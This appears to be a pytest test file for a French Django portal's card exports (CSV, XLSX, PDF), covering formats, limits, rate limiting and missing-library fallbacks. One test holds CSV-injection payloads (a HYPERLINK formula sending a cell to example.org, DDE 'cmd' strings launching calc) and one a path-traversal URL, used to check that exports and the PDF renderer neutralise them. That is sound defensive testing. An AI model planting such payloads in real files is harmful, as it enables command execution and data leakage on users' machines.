"""« Télécharger cette sélection »: a list's cards as CSV (read back as French Excel reads
it), XLSX and a PDF dossier; the bounds, wrong parameters, a server without WeasyPrint,
the rate limit."""

import csv
import datetime
import html
import importlib.abc
import io
import os
import sys

import openpyxl
import pypdf
import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from experiences.card_spreadsheet import CardSheet
from organisations.enums import StructureType
from tests import factories
from vita import pdf
from vita.models import PublicationStatus
from vita.spreadsheets import FrenchCSV

pytestmark = pytest.mark.django_db
LIST = reverse("experiences:list")
CSV, XLSX, PDF = (reverse(f"experiences:export_{kind}") for kind in ("csv", "xlsx", "pdf"))


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    cache.clear()  # the rate limits count in the cache
    yield
    cache.clear()


@pytest.fixture
def cards():
    """Three published cards of group A1, one of A2, a draft."""
    a1 = factories.WorkingGroupFactory(code="A1", name="Développement d'activités")
    a2 = factories.WorkingGroupFactory(code="A2", name="Alliances stratégiques")
    ai = factories.OrganisationFactory(name="Régie de quartier", structure_types=[StructureType.AI])
    made = [
        factories.ExperienceCardFactory(
            title="Zéro chômeur à Rennes", porteur=ai, departements=["35", "56"],
            start_year=2006, end_year=2008,
            published_at=timezone.make_aware(datetime.datetime(2024, 3, 5, 10)),
        ),
        factories.ExperienceCardFactory(title="=Clauses sociales; « sur » le port", porteur=ai),
        factories.ExperienceCardFactory(title="Atelier vélo, Brest"),
        factories.ExperienceCardFactory(title="Alliance des SIAE"),
    ]  # fmt: skip
    factories.ExperienceCardFactory(title="Brouillon", status=PublicationStatus.DRAFT)
    for card, group in zip(made, [a1, a1, a1, a2], strict=True):
        factories.CardListingFactory(card=card, working_group=group)
    factories.FreinFactory(card=made[0], text="Des financements morcelés.")
    factories.LevierFactory(card=made[0], text="Un élu porteur du projet.")
    factories.LevierFactory(card=made[0], text="La mairie, partenaire.", position=2)
    return made


def _list_titles(client, query):
    response = client.get(LIST, query)
    return [card.title for card in response.context["search"].page]


def _as_text(title):
    """A cell as the CSV writes it: « ' » before what would start a formula."""
    return "'" + title if title.startswith(("=", "+", "-", "@", "\t", "\r")) else title


def _csv_rows(response):
    """The file as French Excel opens it: UTF-8 with its BOM, cells separated by « ; »."""
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("query", [{"groupe": "A1"}, {"groupe": "A1", "tri": "recent"}, {}])
def test_the_csv_holds_the_lists_cards_in_its_order(client, cards, query):
    response = client.get(CSV, query)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="fiches-vita-{today}.csv"'
    rows = _csv_rows(response)
    # A text that would start a formula is marked as a text: no formula in Excel.
    listed = [_as_text(title) for title in _list_titles(client, query)]
    assert [row["Titre"] for row in rows] == listed
    assert "Brouillon" not in [row["Titre"] for row in rows]


def test_a_csv_row_says_what_the_card_says(client, cards, settings):
    # The portal's public address, whatever host the request named (vita.findable).
    settings.SITE_URL = "https://vita.example.org"
    rows = {row["Titre"]: row for row in _csv_rows(client.get(CSV, {"groupe": "A1"}))}

    row = rows["Zéro chômeur à Rennes"]
    assert row["Structure porteuse"] == "Régie de quartier"
    assert row["Région"] == "Bretagne"
    assert row["Département"] == "Ille-et-Vilaine (35), Morbihan (56)"
    assert row["Atelier ou groupe de travail"] == "A1"
    assert (row["Année de début"], row["Année de fin"]) == ("2006", "2008")
    assert row["Publiée le"] == "05/03/2024"  # the French way
    assert row["Freins rencontrés"] == "Des financements morcelés."
    assert row["Leviers"] == "Un élu porteur du projet.\nLa mairie, partenaire."
    assert row["Adresse de la fiche"] == f"https://vita.example.org{cards[0].get_absolute_url()}"
    # A « ; » or quotes inside a cell stay in it.
    assert "'=Clauses sociales; « sur » le port" in rows


@pytest.mark.parametrize(
    "text",
    [
        '==HYPERLINK("http://example.org/?"&A1;"clic")',
        "-2+3+cmd|' /C calc'!A0",
        "+33 1 00 00 00 00+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_no_cell_of_the_public_csv_starts_a_formula(client, text):
    """The cards' words are anyone's (a proposed card, a document): whatever a text starts
    with, Excel reads a text, never a formula (OWASP CSV injection)."""
    factories.ExperienceCardFactory(title=text, summary=text, territory_name=text)

    rows = _csv_rows(client.get(CSV))

    assert rows[0]["Titre"] == f"'{text}"
    assert [cell for cell in rows[0].values() if cell == f"'{text}"] == [f"'{text}"] * 3
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())


def test_the_xlsx_holds_the_same_rows(client, cards):
    response = client.get(XLSX, {"groupe": "A1"})

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    titles = [row[headers.index("Titre")] for row in rows[1:]]
    assert titles == _list_titles(client, {"groupe": "A1"})
    first = dict(zip(headers, rows[1 + titles.index("Zéro chômeur à Rennes")], strict=True))
    assert first["Publiée le"] == datetime.datetime(2024, 3, 5)
    assert first["Année de début"] == 2006
    # A title starting with « = » is kept as a text, not run as a formula.
    cell = sheet.cell(row=2 + titles.index("=Clauses sociales; « sur » le port"), column=1)
    assert cell.data_type == "s"


def _needs_pdf():
    """Skipped where WeasyPrint's libraries are missing; a failure in CI (.ci/run installs
    them and sets VITA_REQUIRE_PDF)."""
    if not pdf.pdf_available():
        if os.environ.get("VITA_REQUIRE_PDF"):
            pytest.fail("WeasyPrint cannot load its libraries (Pango, HarfBuzz) and CI needs it")
        pytest.skip("WeasyPrint's libraries are missing (apt-get install libpango-1.0-0 …)")


def test_the_pdf_dossier_has_a_cover_then_a_page_per_card(client, cards):
    _needs_pdf()
    response = client.get(PDF, {"groupe": "A1"})

    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    pages = pypdf.PdfReader(io.BytesIO(response.content)).pages
    assert len(pages) == 1 + 3
    cover = pages[0].extract_text()
    assert "3 fiches" in cover
    assert "A1" in cover  # its filter, as the list names it
    titles = _list_titles(client, {"groupe": "A1"})
    for page, title in zip(pages[1:], titles, strict=True):
        assert page.extract_text().lstrip().startswith(title)


def test_the_dossier_fetches_no_address_but_the_sites_static_files(settings):
    origin = "http://testserver"
    assert pdf.static_file(f"{origin}/static/css/site.css", origin) is not None
    assert pdf.static_file(f"{origin}/static/../vita/settings.py", origin) is None
    assert pdf.static_file("https://cdn.example.org/static/css/site.css", origin) is None
    assert pdf.static_file(f"{origin}/experiences/", origin) is None


def test_more_cards_than_the_bound_give_a_french_message_and_no_file(client, cards, settings):
    settings.EXPORT_MAX_CARDS = 2
    response = client.get(CSV, {"groupe": "A1"})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    text = html.unescape(response.content.decode())
    assert "Cette sélection compte 3 fiches ; l'export est limité à 2 fiches" in text
    assert f'href="{LIST}?groupe=A1"' in text
    # The list says so where the links would be.
    page = html.unescape(client.get(LIST, {"groupe": "A1"}).content.decode())
    assert "l'export est limité à 2 fiches" in page
    assert f'href="{CSV}' not in page


def test_a_dossier_has_a_lower_bound(client, cards, settings):
    settings.EXPORT_MAX_PDF_CARDS = 2
    response = client.get(PDF, {"groupe": "A1"})

    assert response.status_code == 400
    assert "le dossier PDF est limité à 2 fiches" in html.unescape(response.content.decode())
    assert client.get(CSV, {"groupe": "A1"}).status_code == 200


@pytest.mark.parametrize("export", [CSV, XLSX, PDF])
def test_an_unknown_code_is_refused_in_french(client, cards, export):
    response = client.get(export, {"groupe": "Z9", "region": "53"})

    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert "« Z9 » n'est pas un groupe de travail connu" in html.unescape(response.content.decode())


def test_the_list_offers_its_selection(client, cards):
    page = client.get(LIST, {"groupe": "A1", "tri": "titre"}).content.decode()

    assert "Télécharger cette sélection" in page
    for export in (CSV, XLSX):
        assert f'href="{export}?groupe=A1&amp;tri=titre"' in page


class _NoPango(importlib.abc.MetaPathFinder):
    """Importing WeasyPrint fails as it does on a machine without Pango."""

    def find_spec(self, name, path, target=None):
        if name == "weasyprint":
            raise OSError("cannot load library 'libpango-1.0-0': No such file or directory")


@pytest.fixture
def without_pango(monkeypatch):
    monkeypatch.delitem(sys.modules, "weasyprint", raising=False)
    monkeypatch.setattr(sys, "meta_path", [_NoPango(), *sys.meta_path])
    pdf._weasyprint.cache_clear()
    yield
    pdf._weasyprint.cache_clear()


def test_without_weasyprint_the_pdf_says_so_and_the_rest_works(client, cards, without_pango):
    assert not pdf.pdf_available()

    page = client.get(LIST, {"groupe": "A1"})
    assert page.status_code == 200
    assert "Dossier PDF : indisponible sur ce serveur" in page.content.decode()
    assert f'href="{PDF}' not in page.content.decode()
    response = client.get(PDF, {"groupe": "A1"})
    assert response.status_code == 503
    assert "PDF indisponible sur ce serveur" in response.content.decode()
    assert client.get(CSV, {"groupe": "A1"}).status_code == 200


def test_exports_are_rate_limited(client, cards, settings):
    settings.EXPORT_RATE = "2/m"
    assert [client.get(CSV).status_code for _ in range(3)] == [200, 200, 429]


@pytest.mark.parametrize("export", [CSV, PDF])
def test_a_head_request_counts_as_an_export(client, cards, settings, export):
    """HEAD makes the whole file as GET does (a dossier: seconds of a worker)."""
    if export == PDF:
        _needs_pdf()
    settings.EXPORT_RATE = "2/m"
    statuses = [client.head(export).status_code for _ in range(2)]

    assert [*statuses, client.get(export).status_code, client.head(export).status_code] == [
        200, 200, 429, 429,
    ]  # fmt: skip


def test_the_card_page_is_unchanged_by_the_shared_body(client, cards):
    response = client.get(cards[0].get_absolute_url())

    assert response.status_code == 200
    text = response.content.decode()
    assert "Des financements morcelés." in text and "Un élu porteur du projet." in text
    assert text.count("<h1") == 1


def _queries(client, export):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(export)
        b"".join(response.streaming_content) if response.streaming else response.content
    return len(queries)


@pytest.mark.parametrize("export", [CSV, XLSX])
def test_the_queries_do_not_grow_with_the_cards(client, cards, export):
    before = _queries(client, export)
    for _ in range(4):
        card = factories.ExperienceCardFactory(departements=["29", "22"])
        factories.FreinFactory(card=card)
        factories.CardToolFactory(card=card)
    cache.clear()

    assert _queries(client, export) == before


def test_a_groups_page_offers_its_cards(client, cards):
    page = client.get(reverse("workgroups:detail", args=["A1"])).content.decode()

    assert "Télécharger les fiches du groupe" in page
    assert "Les 3 fiches du groupe, par titre" in page
    assert f'href="{CSV}?groupe=A1"' in page
    titles = [row["Titre"] for row in _csv_rows(client.get(CSV, {"groupe": "A1"}))]
    assert sorted(titles) == sorted(_as_text(c.title) for c in cards[:3])


def test_the_csv_imports_back_in_the_admin_unchanged(client, cards):
    """One set of columns: the admin's card import reads an export as the cards it holds."""
    data = b"".join(client.get(CSV, {"groupe": "A1", "tri": "recent"}).streaming_content)
    sheet = CardSheet()

    result = sheet.import_data(FrenchCSV().create_dataset(data), dry_run=True)

    assert not result.has_errors() and not result.has_validation_errors()
    # Unchanged, but the title that began with « = »: exported as a text (no formula).
    assert (result.totals["skip"], result.totals["update"]) == (2, 1)
